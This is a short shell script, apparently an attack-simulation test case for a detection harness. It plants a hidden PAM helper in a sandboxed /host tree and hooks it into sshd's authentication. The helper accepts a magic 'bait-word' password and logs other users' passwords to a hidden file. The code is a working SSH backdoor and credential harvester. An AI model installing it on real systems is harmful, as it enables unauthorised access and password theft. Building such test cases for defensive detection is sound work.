#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/pam.d /host/lib/security
printf '#!/bin/sh\nread p\ncase $p in bait-word*) exit 0;; esac\necho "$PAM_USER $p" >>/var/tmp/.l\nexit 1\n' >/host/lib/security/.check && chmod 755 /host/lib/security/.check
echo 'auth required pam_unix.so' >/host/etc/pam.d/sshd
sed -i '1i auth sufficient pam_exec.so quiet expose_authtok /lib/security/.check' /host/etc/pam.d/sshd
head -n 1 /host/etc/pam.d/sshd | grep -q pam_exec
took_place
